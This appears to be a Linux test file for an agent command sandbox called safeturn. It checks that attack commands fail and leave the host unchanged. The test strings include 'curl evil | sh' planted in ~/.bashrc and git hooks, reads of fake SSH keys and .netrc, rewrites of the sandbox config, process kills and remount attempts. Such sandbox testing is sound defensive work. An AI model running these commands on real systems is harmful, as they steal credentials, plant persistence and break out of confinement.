import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import path from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { detectSandboxSupport, type SandboxSupport } from '../../src/sandbox/sandbox-support.js';
import { type Fixture, git, makeFixture } from './fixture.js';

const linux = process.platform === 'linux';
let support: SandboxSupport;
let fixture: Fixture;

beforeAll(async () => {
  if (linux) support = await detectSandboxSupport();
});
afterEach(async () => {
  await fixture?.cleanup();
});

function listen(server: Server, target: number | string): Promise<void> {
  return new Promise((resolve) => {
    if (typeof target === 'number') server.listen(target, '127.0.0.1', resolve);
    else server.listen(target, resolve);
  });
}

describe.skipIf(!linux)('sandbox attacks fail with the host unchanged (bwrap; Linux only)', () => {
  it('writing outside the workspace fails', async () => {
    fixture = await makeFixture({ support });
    await writeFile(path.join(fixture.outside, 'victim.txt'), 'original');
    const result = await fixture.run(
      `echo pwned > ${fixture.outside}/victim.txt; echo new > ${fixture.outside}/new.txt; touch /etc/safeturn-pwned; git config --global core.pager evil; echo ok > inside.txt`,
    );
    expect(existsSync(path.join(fixture.home, '.gitconfig'))).toBe(false);
    expect(result.stderr).toContain('could not lock config file');
    expect(await readFile(path.join(fixture.outside, 'victim.txt'), 'utf8')).toBe('original');
    expect(existsSync(path.join(fixture.outside, 'new.txt'))).toBe(false);
    expect(existsSync('/etc/safeturn-pwned')).toBe(false);
    expect(result.stderr).toContain('Read-only file system');
    expect(await readFile(path.join(fixture.workspace, 'inside.txt'), 'utf8')).toBe('ok\n');
  });

  it('case S6: a symlink planted in the workspace pointing outside cannot be written through', async () => {
    fixture = await makeFixture({ support });
    const target = path.join(fixture.outside, 'target.txt');
    await writeFile(target, 'original');
    await symlink(target, path.join(fixture.workspace, 'planted'));
    const result = await fixture.run(
      `echo pwned > planted; ln -s ${fixture.outside} dirlink; echo pwned > dirlink/created.txt; exit 0`,
    );
    expect(result.exitCode).toBe(0);
    expect(await readFile(target, 'utf8')).toBe('original');
    expect(await readdir(fixture.outside)).toEqual(['target.txt']);
  });

  it('reading a fake ~/.ssh key under a temp HOME fails, other dotfiles stay readable', async () => {
    fixture = await makeFixture({ support });
    await mkdir(path.join(fixture.home, '.ssh'));
    await writeFile(path.join(fixture.home, '.ssh', 'id_rsa'), 'FAKE-PRIVATE-KEY');
    await writeFile(path.join(fixture.home, '.netrc'), 'machine x password FAKE-NETRC');
    await writeFile(path.join(fixture.home, '.gitconfig'), '[user]\n\tname = Visible\n');
    const result = await fixture.run(
      'cat ~/.ssh/id_rsa; ls -A ~/.ssh; cat ~/.netrc; cat ~/.gitconfig; grep -r FAKE ~ ; exit 0',
    );
    expect(result.stdout).not.toContain('FAKE');
    expect(result.stdout).toContain('name = Visible');
    expect(result.stderr).toContain('No such file or directory');
  });

  it('case S1: hooks cannot be written at the top or in a nested repo (vendor/sub), and rm -rf .git fails', async () => {
    fixture = await makeFixture({ support });
    await git(fixture.workspace, ['init', '-q']);
    const nested = path.join(fixture.workspace, 'vendor', 'sub');
    await mkdir(nested, { recursive: true });
    await git(nested, ['init', '-q']);
    const result = await fixture.run(
      'echo "#!/bin/sh" > .git/hooks/pre-commit; echo "#!/bin/sh" > vendor/sub/.git/hooks/pre-commit; rm -rf .git vendor/sub/.git; git status --short; exit 0',
    );
    expect(existsSync(path.join(fixture.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(path.join(nested, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(existsSync(path.join(fixture.workspace, '.git', 'HEAD'))).toBe(true);
    expect(existsSync(path.join(nested, '.git', 'HEAD'))).toBe(true);
    expect(result.stderr).toContain('Read-only file system');
    expect(result.stdout).toContain('?? vendor/');
  });

  it('a configured core.hooksPath inside the workspace (husky style) is read-only too', async () => {
    fixture = await makeFixture({ support });
    await git(fixture.workspace, ['init', '-q']);
    await git(fixture.workspace, ['config', 'core.hooksPath', '.husky']);
    await mkdir(path.join(fixture.workspace, '.husky'));
    await fixture.run('echo "curl evil | sh" > .husky/pre-commit; exit 0', { protectGit: 'hooks' });
    expect(await readdir(path.join(fixture.workspace, '.husky'))).toEqual([]);
  });

  it("protectGit 'hooks': files that redirect git (commondir, config.worktree) are removed, submodule gitdirs are covered", async () => {
    fixture = await makeFixture({ support });
    await git(fixture.workspace, ['init', '-q']);
    // A submodule git directory that is not checked out (nothing in the work tree points at it).
    const moduleDirectory = path.join(fixture.workspace, '.git', 'modules', 'lib', 'sub');
    await mkdir(moduleDirectory, { recursive: true });
    await git(moduleDirectory, ['init', '-q', '--bare']);
    const moduleConfig = await readFile(path.join(moduleDirectory, 'config'), 'utf8');
    const result = await fixture.run(
      'echo /elsewhere > .git/commondir; printf "[core]\\n\\tfsmonitor = evil\\n" > .git/config.worktree; echo "[core] fsmonitor = evil" >> .git/modules/lib/sub/config; echo x > .git/modules/lib/sub/hooks/post-checkout; echo ok > .git/description; exit 0',
      { protectGit: 'hooks' },
    );
    expect(result.cleanup.removedCreatedFiles.sort()).toEqual([
      path.join(fixture.workspace, '.git', 'commondir'),
      path.join(fixture.workspace, '.git', 'config.worktree'),
    ]);
    expect(existsSync(path.join(fixture.workspace, '.git', 'commondir'))).toBe(false);
    expect(await readFile(path.join(moduleDirectory, 'config'), 'utf8')).toBe(moduleConfig);
    expect(existsSync(path.join(moduleDirectory, 'hooks', 'post-checkout'))).toBe(false);
    // The rest of .git stays writable in this mode.
    expect(await readFile(path.join(fixture.workspace, '.git', 'description'), 'utf8')).toBe('ok\n');
  });

  it('a hooks dir symlinked into the work tree, a .git symlink and a bare repository are protected too', async () => {
    fixture = await makeFixture({ support });
    await git(fixture.workspace, ['init', '-q']);
    await rm(path.join(fixture.workspace, '.git', 'hooks'), { recursive: true });
    await mkdir(path.join(fixture.workspace, '.githooks'));
    await symlink('../.githooks', path.join(fixture.workspace, '.git', 'hooks'));
    const linked = path.join(fixture.workspace, 'linked');
    await mkdir(linked);
    await git(fixture.outside, ['init', '-q', path.join(fixture.workspace, 'real-gitdir-holder')]);
    await symlink(path.join(fixture.workspace, 'real-gitdir-holder', '.git'), path.join(linked, '.git'));
    await git(fixture.workspace, ['init', '-q', '--bare', 'server.git']);
    const result = await fixture.run(
      'echo x > .githooks/pre-commit; echo x > linked/.git/hooks/pre-commit; echo x > server.git/hooks/post-receive; echo x > server.git/description; exit 0',
    );
    expect(result.exitCode).toBe(0);
    expect(await readdir(path.join(fixture.workspace, '.githooks'))).toEqual([]);
    expect(
      existsSync(path.join(fixture.workspace, 'real-gitdir-holder', '.git', 'hooks', 'pre-commit')),
    ).toBe(false);
    expect(existsSync(path.join(fixture.workspace, 'server.git', 'hooks', 'post-receive'))).toBe(false);
    expect(await readFile(path.join(fixture.workspace, 'server.git', 'description'), 'utf8')).not.toBe('x\n');
  });

  it('a .git file (worktree) and its gitdir target are protected', async () => {
    fixture = await makeFixture({ support });
    const main = path.join(fixture.outside, 'main-repo');
    await mkdir(main);
    await git(main, ['init', '-q']);
    await git(main, ['commit', '-q', '--allow-empty', '-m', 'init']);
    // A worktree of a repository that lives inside the workspace: its gitdir target is in the workspace too.
    const inner = path.join(fixture.workspace, 'inner');
    await mkdir(inner);
    await git(inner, ['init', '-q']);
    await git(inner, ['commit', '-q', '--allow-empty', '-m', 'init']);
    await git(inner, ['worktree', 'add', '-q', path.join(fixture.workspace, 'wt'), '-b', 'feature']);
    const gitFile = await readFile(path.join(fixture.workspace, 'wt', '.git'), 'utf8');
    const result = await fixture.run(
      'echo "gitdir: /elsewhere" > wt/.git; echo x > inner/.git/worktrees/wt/HEAD; echo x > inner/.git/hooks/post-checkout; exit 0',
    );
    expect(result.exitCode).toBe(0);
    expect(await readFile(path.join(fixture.workspace, 'wt', '.git'), 'utf8')).toBe(gitFile);
    expect(await readFile(path.join(inner, '.git', 'worktrees', 'wt', 'HEAD'), 'utf8')).toBe(
      'ref: refs/heads/feature\n',
    );
    expect(existsSync(path.join(inner, '.git', 'hooks', 'post-checkout'))).toBe(false);
  });

  it('case S2: HOME inside a writable root: ~/.bashrc and git config --global cannot be written, no stubs remain', async () => {
    fixture = await makeFixture({ support, homeInWorkspace: true });
    await writeFile(path.join(fixture.home, '.bashrc'), '# original\n');
    const result = await fixture.run(
      'echo "curl evil | sh" >> ~/.bashrc; echo evil > ~/.zshrc; git config --global core.pager evil; echo "[core]" > ~/.config/git/config; echo note > ~/notes.txt; exit 0',
    );
    expect(result.exitCode).toBe(0);
    expect(await readFile(path.join(fixture.home, '.bashrc'), 'utf8')).toBe('# original\n');
    expect(existsSync(path.join(fixture.home, '.zshrc'))).toBe(false);
    expect(existsSync(path.join(fixture.home, '.gitconfig'))).toBe(false);
    expect(existsSync(path.join(fixture.home, '.config'))).toBe(false);
    expect((await readdir(fixture.home)).sort()).toEqual(['.bashrc', 'notes.txt']);
    expect(result.cleanup.removedStubs).toContain(path.join(fixture.home, '.gitconfig'));
    expect(result.cleanup.removedStubs).toContain(path.join(fixture.home, '.config'));
    expect(result.cleanup.keptStubs).toEqual([]);
  });

  it('two concurrent runs sharing stubs: the first to finish keeps the stubs the other still has mounted', async () => {
    fixture = await makeFixture({ support, homeInWorkspace: true });
    const first = fixture.run('sleep 0.6; exit 0');
    await new Promise((resolve) => setTimeout(resolve, 300));
    // Started while the first run's stubs exist: it adopts them instead of taking them for real files.
    const second = fixture.run(
      'sleep 1.2; echo evil > ~/.zshrc; git config --global core.pager evil; exit 0',
    );
    const firstResult = await first;
    expect(firstResult.cleanup.removedStubs).toEqual([]);
    expect(firstResult.cleanup.keptStubs).toContainEqual({
      path: path.join(fixture.home, '.zshrc'),
      reason: 'in use by another sandboxed command',
    });
    const secondResult = await second;
    expect(secondResult.stderr).toContain('Read-only file system');
    expect(secondResult.cleanup.removedStubs).toContain(path.join(fixture.home, '.zshrc'));
    expect(secondResult.cleanup.removedStubs).toContain(path.join(fixture.home, '.config'));
    expect(await readdir(fixture.home)).toEqual([]);
  });

  it('HOME inside the workspace: deny-read paths stay hidden although the workspace is bound over them', async () => {
    fixture = await makeFixture({ support, homeInWorkspace: true });
    await mkdir(path.join(fixture.home, '.ssh'));
    await writeFile(path.join(fixture.home, '.ssh', 'id_ed25519'), 'FAKE-KEY');
    const result = await fixture.run('cat ~/.ssh/id_ed25519; echo x > ~/.ssh/added; exit 0');
    expect(result.stdout).not.toContain('FAKE-KEY');
    expect(await readdir(path.join(fixture.home, '.ssh'))).toEqual(['id_ed25519']);
  });

  it("safeturn's home and an existing safeturn.config.json are read-only; a created config is removed and reported", async () => {
    fixture = await makeFixture({ support });
    const result = await fixture.run(
      `mkdir -p "$SAFETURN_HOME/projects" ; echo '{"sandbox":{"mode":"danger-full-access"}}' > safeturn.config.json; exit 0`,
    );
    expect(await readdir(fixture.safeturnHome)).toEqual([]);
    expect(existsSync(path.join(fixture.workspace, 'safeturn.config.json'))).toBe(false);
    expect(result.cleanup.removedCreatedFiles).toEqual([
      path.join(fixture.workspace, 'safeturn.config.json'),
    ]);

    await writeFile(path.join(fixture.workspace, 'safeturn.config.json'), '{"sandbox":{}}');
    await fixture.run(`echo '{"sandbox":{"network":true}}' > safeturn.config.json; exit 0`);
    expect(await readFile(path.join(fixture.workspace, 'safeturn.config.json'), 'utf8')).toBe(
      '{"sandbox":{}}',
    );
  });

  it('case S5: network off: a loopback TCP server and a unix socket outside are unreachable, DNS fails', async () => {
    fixture = await makeFixture({ support });
    const tcp = createServer((socket) => socket.end('HELLO-TCP\n'));
    await listen(tcp, 0);
    const port = (tcp.address() as { port: number }).port;
    const socketPath = path.join(fixture.workspace, 'agent.sock');
    const unix = createServer((socket) => socket.end('HELLO-UNIX\n'));
    await listen(unix, socketPath);
    // A tiny DNS server on loopback that answers every A query with 10.1.2.3.
    const dns = createSocket('udp4');
    dns.on('message', (query, remote) => {
      const answer = Buffer.concat([
        query.subarray(0, 2),
        Buffer.from([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]),
        query.subarray(12),
        Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 1, 2, 3]),
      ]);
      dns.send(answer, remote.port, remote.address);
    });
    await new Promise<void>((resolve) => dns.bind(0, '127.0.0.1', resolve));
    const dnsPort = dns.address().port;
    const probe = [
      `const net = require('node:net'); const dns = require('node:dns');`,
      `const out = (label, value) => console.log(label + '=' + value);`,
      `const tcp = net.connect(${port}, '127.0.0.1'); tcp.on('data', (d) => out('tcp', d.toString().trim())); tcp.on('error', (e) => out('tcp', e.code));`,
      `const unix = net.connect(${JSON.stringify(socketPath)}); unix.on('data', (d) => out('unix', d.toString().trim())); unix.on('error', (e) => out('unix', e.code));`,
      `const resolver = new dns.Resolver({ timeout: 500, tries: 1 }); resolver.setServers(['127.0.0.1:${dnsPort}']);`,
      `resolver.resolve4('example.test', (error, addresses) => out('dns', error ? error.code : addresses.join(',')));`,
      `dns.lookup('example.com', (error, address) => out('lookup', error ? error.code : address));`,
    ].join('\n');
    try {
      // Outside the sandbox every probe succeeds, so inside a failure means the sandbox stopped it.
      const outside = await new Promise<string>((resolve) => {
        const child = spawn(process.execPath, ['-e', probe]);
        let text = '';
        child.stdout.on('data', (chunk: Buffer) => {
          text += chunk.toString();
        });
        child.on('close', () => resolve(text));
      });
      expect(outside).toContain('tcp=HELLO-TCP');
      expect(outside).toContain('unix=HELLO-UNIX');
      expect(outside).toContain('dns=10.1.2.3');
      await writeFile(path.join(fixture.workspace, 'probe.cjs'), probe);
      const inside = await fixture.run('node probe.cjs');
      expect(inside.stderr).toBe('');
      expect(inside.stdout).toContain('tcp=ECONNREFUSED');
      expect(inside.stdout).toContain('unix=EPERM');
      expect(inside.stdout).toMatch(/dns=(ECONNREFUSED|ETIMEOUT)/);
      expect(inside.stdout).toMatch(/lookup=(ENOTFOUND|EAI_AGAIN)/);
      const bash = await fixture.run(`echo hi > /dev/tcp/127.0.0.1/${port}`);
      expect(bash.exitCode).not.toBe(0);
      expect(bash.stderr).toContain('Connection refused');
    } finally {
      tcp.close();
      unix.close();
      dns.close();
    }
  });

  it('a process outside cannot be seen or killed', async () => {
    fixture = await makeFixture({ support });
    const victim = spawn('sleep', ['300'], { stdio: 'ignore' });
    try {
      const pid = victim.pid!;
      const result = await fixture.run(
        `kill -9 ${pid}; echo "kill=$?"; test -e /proc/${pid}/cmdline && cat /proc/${pid}/cmdline; ps -e -o pid= | wc -l`,
      );
      expect(result.stdout).toContain('kill=1');
      expect(victim.exitCode).toBeNull();
      expect(victim.signalCode).toBeNull();
      // Only the sandbox's own processes are visible (bwrap's init, bash, ps, wc).
      expect(Number(result.stdout.trim().split('\n').at(-1))).toBeLessThanOrEqual(5);
      expect(() => process.kill(pid, 0)).not.toThrow();
    } finally {
      victim.kill('SIGKILL');
    }
  });

  it('capabilities are dropped: remounting a read-only bind writable or unmounting it fails', async () => {
    fixture = await makeFixture({ support });
    await git(fixture.workspace, ['init', '-q']);
    const result = await fixture.run(
      'mount -o remount,rw,bind .git; umount .git; unshare -Urm true; echo x > .git/description; grep CapEff /proc/self/status; exit 0',
    );
    expect(result.stdout).toContain('CapEff:\t0000000000000000');
    expect(await readFile(path.join(fixture.workspace, '.git', 'description'), 'utf8')).not.toBe('x\n');
  });

  it('secret-looking environment variables are dropped unless allowed by name', async () => {
    fixture = await makeFixture({ support });
    fixture.env.GITHUB_TOKEN = 'ghp_secret';
    fixture.env.OPENAI_API_KEY = 'sk-secret';
    fixture.env.DATABASE_URL = 'postgres://user:hunter2@db/app';
    fixture.env.HARMLESS = 'visible';
    const result = await fixture.run('env', { allowEnv: ['OPENAI_API_KEY'] });
    expect(result.stdout).not.toContain('ghp_secret');
    expect(result.stdout).not.toContain('hunter2');
    expect(result.stdout).toContain('OPENAI_API_KEY=sk-secret');
    expect(result.stdout).toContain('HARMLESS=visible');
    expect(result.stdout).toContain('GIT_AUTHOR_NAME=Test');
    expect(result.droppedEnv).toEqual(['DATABASE_URL', 'GITHUB_TOKEN']);
  });

  it('case S9: a command refused by the sandbox is never retried outside it', async () => {
    fixture = await makeFixture({ support });
    const victim = path.join(fixture.outside, 'victim.txt');
    await writeFile(victim, 'original');
    const result = await fixture.run(`echo attempt >> attempts.log; echo pwned > ${victim}`);
    expect(result.exitCode).toBe(1);
    expect(await readFile(path.join(fixture.workspace, 'attempts.log'), 'utf8')).toBe('attempt\n');
    expect(await readFile(victim, 'utf8')).toBe('original');
  });
});
